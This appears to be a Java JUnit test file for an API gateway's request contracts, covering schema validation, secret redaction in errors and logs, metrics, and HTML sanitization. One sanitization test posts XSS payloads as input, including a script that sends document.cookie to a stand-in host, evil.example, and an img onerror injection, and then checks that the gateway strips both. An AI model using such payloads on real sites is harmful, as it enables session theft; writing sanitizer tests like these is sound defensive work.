package dev.bastion.contract;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.bastion.config.ConfigException;
import dev.bastion.config.ConfigLoader;
import dev.bastion.testing.TestGateway;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Route contracts through a real gateway: a refused request never reaches the upstream and its answer never echoes it. */
class ContractGatewayTest {
    static TestGateway gw;
    static String key;
    static Path schemaFile;

    @BeforeAll
    static void start() throws Exception {
        schemaFile = Files.createTempFile("card-query", ".yaml");
        Files.writeString(schemaFile, """
                type: object
                additionalProperties: false
                properties:
                  limit: { type: integer, minimum: 1, maximum: 100 }
                """);
        gw = TestGateway.start(TestGateway.config("""
                  - id: cards.create
                    match: { methods: [POST], path: /boards/cards }
                    upstream: app
                    auth: { methods: [api_key] }
                    contract:
                      body:
                        schema:
                          type: object
                          required: [title]
                          additionalProperties: false
                          properties:
                            title: { type: string, maxLength: 40 }
                            tags: { type: array, items: { type: string } }
                      query: { schema_file: "%s" }
                      limits: { max_array_items: 3 }
                  - id: comments.create
                    match: { methods: [POST], path: /comments }
                    upstream: app
                    auth: { methods: [api_key] }
                    contract:
                      body:
                        schema: { type: object, required: [body], properties: { body: { type: string, maxLength: 2000 } } }
                      sanitize_html: [/body, /attachments/*/caption]
                    # Rich text: the WAF would refuse these bodies outright; this route cleans them instead.
                    waf: { enabled: false }
                  - id: cards.plain
                    match: { methods: [POST], path: /plain/cards }
                    upstream: app
                    auth: { methods: [api_key] }
                """.formatted(schemaFile)));
        key = gw.createKey("acme", "invoke");
    }

    @AfterAll
    static void stop() throws Exception {
        gw.close();
        Files.deleteIfExists(schemaFile);
    }

    @Test
    void aValidRequestIsForwardedAndAnInvalidOneIsRefusedWithPointersOnly() throws Exception {
        int before = gw.upstream.seen().size();
        HttpResponse<String> ok = gw.postJson("/boards/cards?limit=5", key, "{\"title\":\"Ship\",\"tags\":[\"a\"]}");
        assertThat(ok.statusCode()).isEqualTo(200);
        assertThat(gw.upstream.seen()).hasSize(before + 1);

        HttpResponse<String> bad = gw.postJson("/boards/cards?limit=500", key,
                "{\"title\":\"sk-SECRET-" + "x".repeat(40) + "\",\"password\":\"hunter2-SECRET\",\"tags\":[\"a\",\"b\",\"c\",\"d\"]}");
        assertThat(bad.statusCode()).isEqualTo(400);
        JsonObject error = new JsonObject(bad.body()).getJsonObject("error");
        assertThat(error.getString("code")).isEqualTo("request_invalid");
        assertThat(error.getString("request_id")).isEqualTo(bad.headers().firstValue("X-Request-Id").orElseThrow());
        JsonArray violations = error.getJsonArray("violations");
        assertThat(violations.stream().map(Object::toString).toList()).contains(
                new JsonObject().put("pointer", "/limit").put("keyword", "maximum").encode(),
                new JsonObject().put("pointer", "/tags").put("keyword", "max_array_items").encode());
        // Without the request id: a random hex id can hold "500" (it did, once in a full run).
        assertThat(bad.body().replace(error.getString("request_id"), "")).doesNotContain("SECRET").doesNotContain("hunter2").doesNotContain("500");
        assertThat(gw.upstream.seen()).as("the refused request went nowhere").hasSize(before + 1);

        String line = gw.accessLine(error.getString("request_id"));
        assertThat(line).contains("request_invalid").doesNotContain("SECRET").doesNotContain("hunter2");
    }

    @Test
    void theSchemaIsCheckedWhenTheSilentLimitsHold() throws Exception {
        HttpResponse<String> bad = gw.postJson("/boards/cards", key, "{\"title\":\"t\",\"admin\":true}");
        assertThat(bad.statusCode()).isEqualTo(400);
        assertThat(new JsonObject(bad.body()).getJsonObject("error").getJsonArray("violations").getJsonObject(0).getMap())
                .containsEntry("pointer", "/admin").containsEntry("keyword", "additionalProperties");
    }

    @Test
    void theDecisionIsCountedPerRouteAndResult() throws Exception {
        gw.postJson("/boards/cards", key, "{}");
        gw.postJson("/boards/cards", key, "{\"title\":\"ok\"}");
        String metrics = gw.send(HttpRequest.newBuilder(gw.adminUri("/metrics")).build()).body();
        assertThat(metrics).containsPattern("bastion_contract_requests_total\\{[^}]*result=\"invalid\"[^}]*route=\"cards.create\"[^}]*} [1-9]")
                .containsPattern("bastion_contract_requests_total\\{[^}]*result=\"valid\"[^}]*route=\"cards.create\"[^}]*} [1-9]");
    }

    @Test
    void namedHtmlFieldsReachTheUpstreamCleanedAndTheDecisionNamesWhereNotWhat() throws Exception {
        HttpResponse<String> r = gw.postJson("/comments", key,
                "{\"body\":\"Looks good<script>fetch('https://evil.example/?c='+document.cookie)</script>\",\"attachments\":[{\"caption\":\"<b>fig 1</b>\"},"
                        + "{\"caption\":\"<img src=x onerror=alert(1)>fig 2\"}]}");
        assertThat(r.statusCode()).isEqualTo(200);
        JsonObject forwarded = new JsonObject(gw.upstream.last().body());
        assertThat(forwarded.getString("body")).isEqualTo("Looks good");
        assertThat(forwarded.getJsonArray("attachments").getJsonObject(0).getString("caption")).isEqualTo("<b>fig 1</b>");
        assertThat(forwarded.getJsonArray("attachments").getJsonObject(1).getString("caption")).isEqualTo("fig 2");
        String line = gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow());
        JsonObject contract = new JsonObject(line).getJsonObject("contract");
        assertThat(contract.getString("result")).isEqualTo("valid");
        assertThat(contract.getJsonArray("sanitized").getList()).containsExactly("/body", "/attachments/1/caption");
        assertThat(line).doesNotContain("evil.example").doesNotContain("onerror");

        HttpResponse<String> clean = gw.postJson("/comments", key, "{\"body\":\"R&D says <i>ship it</i>\"}");
        assertThat(clean.statusCode()).isEqualTo(200);
        assertThat(gw.upstream.last().body().toString()).as("a clean body goes on byte for byte").isEqualTo("{\"body\":\"R&D says <i>ship it</i>\"}");
        assertThat(new JsonObject(gw.accessLine(clean.headers().firstValue("X-Request-Id").orElseThrow())).getJsonObject("contract").containsKey("sanitized")).isFalse();
    }

    @Test
    void aRouteWithoutAContractIsNotHeldToOne() throws Exception {
        HttpResponse<String> r = gw.postJson("/plain/cards", key, "{\"anything\":[1,2,3,4,5,6]}");
        assertThat(r.statusCode()).isEqualTo(200);
    }

    @Test
    void anUnauthenticatedCallerIsRefusedBeforeItsBodyIsValidated() throws Exception {
        HttpResponse<String> r = gw.postJson("/boards/cards", null, "[".repeat(5000));
        assertThat(r.statusCode()).isEqualTo(401);
    }

    @Test
    void aBrokenSchemaIsAConfigErrorNamingTheRoute() {
        var config = new ConfigLoader().parse(TestGateway.config("""
                  - id: cards.broken
                    match: { methods: [POST], path: /x }
                    upstream: app
                    public: true
                    contract: { body: { schema: { type: strnig } } }
                """).replace("{{upstream}}", "http://127.0.0.1:1").replace("{{store}}", "sqlite::memory:"), "test.yaml");
        assertThatThrownBy(() -> Contracts.compile(config)).isInstanceOf(ConfigException.class)
                .hasMessageContaining("cards.broken").hasMessageContaining("contract.body");
    }

    @Test
    void aSchemaFileThatIsMissingIsAConfigErrorAtItsPlace() {
        assertThatThrownBy(() -> new ConfigLoader().parse(TestGateway.config("""
                  - id: cards.nofile
                    match: { methods: [POST], path: /x }
                    upstream: app
                    public: true
                    contract: { body: { schema_file: /nonexistent/card.json } }
                """).replace("{{upstream}}", "http://127.0.0.1:1").replace("{{store}}", "sqlite::memory:"), "test.yaml"))
                .isInstanceOf(ConfigException.class).hasMessageContaining("routes[0]").hasMessageContaining("no such file");
    }
}
